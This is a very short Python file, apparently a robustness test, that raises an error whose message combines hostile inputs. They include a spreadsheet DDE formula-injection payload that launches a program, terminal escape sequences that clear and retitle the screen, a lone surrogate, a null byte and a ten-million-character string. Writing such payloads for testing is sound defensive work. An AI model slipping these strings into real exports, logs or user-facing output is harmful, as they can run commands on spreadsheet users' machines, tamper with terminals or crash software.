"""Says a lot, in words that steer terminals, break files and run in spreadsheets."""

raise RuntimeError("=cmd|' /C calc'!A0 \x1b[2J\x1b]0;owned\x07\ud800\x00\r\n" + "A" * 10_000_000)
